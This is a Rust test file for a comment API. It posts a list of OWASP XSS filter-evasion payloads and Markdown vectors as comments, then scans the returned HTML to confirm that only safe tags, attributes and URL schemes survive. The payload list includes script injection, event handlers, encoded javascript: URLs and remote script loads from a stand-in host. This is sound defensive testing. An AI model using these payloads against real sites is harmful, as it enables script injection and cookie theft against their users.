//! Comment HTML is safe: OWASP filter-evasion payloads posted as comments come back inert.

mod common;

use common::*;
use reqwest::StatusCode;
use serde_json::{json, Value};

/// From the OWASP XSS filter evasion cheat sheet, plus Markdown-specific vectors.
const PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<a href=\"&#x6A;avascript:alert(1)\">entity</a>",
    "<details open ontoggle=alert(1)>",
    "<a\nhref=\"javascript:alert(1)\"\nonclick\n=\nalert(1)>odd whitespace</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1) \"title\")",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://x.example/a.png)",
    "[x](https://ok.example/\" onmouseover=\"alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "*<img src=x onerror=alert(1)>*",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const ALLOWED_TAGS: &[&str] = &["p", "em", "strong", "a", "ul", "ol", "li", "br"];

/// Scans `html` tag by tag: every tag must be allowed, every attribute must be `a[href|rel]`,
/// every URL http(s) or mailto.
fn check_html(html: &str) -> Result<(), String> {
    let lower = html.to_ascii_lowercase();
    if lower.contains("<script") {
        return Err("script tag".into());
    }
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..]
            .find('>')
            .ok_or_else(|| format!("unterminated tag in {rest:?}"))?;
        let tag = &rest[start + 1..start + end];
        rest = &rest[start + end + 1..];
        let tag = tag.trim_start_matches('/').trim_end_matches('/').trim();
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if !ALLOWED_TAGS.contains(&name) {
            return Err(format!("tag {name:?}"));
        }
        for (attribute, value) in attributes_of(attributes)? {
            match (name, attribute.as_str()) {
                ("a", "rel") => {
                    if value != "nofollow ugc noopener" {
                        return Err(format!("rel {value:?}"));
                    }
                }
                ("a", "href") => {
                    let scheme_ok = ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|scheme| value.to_ascii_lowercase().starts_with(scheme));
                    if !scheme_ok {
                        return Err(format!("href {value:?}"));
                    }
                }
                _ => return Err(format!("attribute {attribute:?} on {name}")),
            }
        }
    }
    Ok(())
}

/// `name="value"` pairs as ammonia serializes them (double-quoted, `"` escaped).
fn attributes_of(mut text: &str) -> Result<Vec<(String, String)>, String> {
    let mut attributes = Vec::new();
    loop {
        text = text.trim_start();
        if text.is_empty() {
            return Ok(attributes);
        }
        let (name, after) = text
            .split_once("=\"")
            .ok_or_else(|| format!("attribute without quoted value: {text:?}"))?;
        let (value, after) = after
            .split_once('"')
            .ok_or_else(|| format!("unterminated value: {text:?}"))?;
        attributes.push((name.trim().to_ascii_lowercase(), value.to_owned()));
        text = after;
    }
}

#[test]
fn the_scanner_catches_what_it_must() {
    assert!(check_html(
        "<p>ok <a href=\"https://a.example\" rel=\"nofollow ugc noopener\">a</a></p>"
    )
    .is_ok());
    for bad in [
        "<img src=\"x\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<p onclick=\"x\">",
        "<SCRIPT>",
        "<a href=\"data:text/html,x\">",
    ] {
        assert!(check_html(bad).is_err(), "{bad}");
    }
}

#[tokio::test]
async fn xss_payloads_come_back_inert() {
    let server = TestServer::start().await;
    server.create_thread("t", json!({})).await;
    assert!(PAYLOADS.len() >= 40);
    let mut accepted = 0;
    for payload in PAYLOADS {
        let response = server
            .post_comment("t", &token(), json!({ "text": payload }))
            .await;
        let status = response.status();
        let body: Value = response.json().await.unwrap();
        if status == StatusCode::UNPROCESSABLE_ENTITY {
            // Nothing renderable left is a fine answer too.
            assert_eq!(body["error"]["code"], "empty_text", "{payload}");
            continue;
        }
        assert_eq!(status, StatusCode::CREATED, "{payload}: {body}");
        accepted += 1;
        let html = body["html"].as_str().unwrap();
        if let Err(problem) = check_html(html) {
            panic!("{problem} in {html:?} (from {payload:?})");
        }
        assert_eq!(
            body["text"],
            payload.trim(),
            "the source is kept as written"
        );
    }
    assert!(accepted >= 40, "{accepted} payloads accepted");
    // What is stored is what is served: read the thread back and check it again.
    let mut cursor = String::new();
    loop {
        let page = server
            .read(&format!("/api/v1/threads/t/comments?{cursor}"), None)
            .await;
        for comment in page["comments"].as_array().unwrap() {
            check_html(comment["html"].as_str().unwrap()).unwrap();
        }
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("cursor={next}"),
            None => break,
        }
    }
}
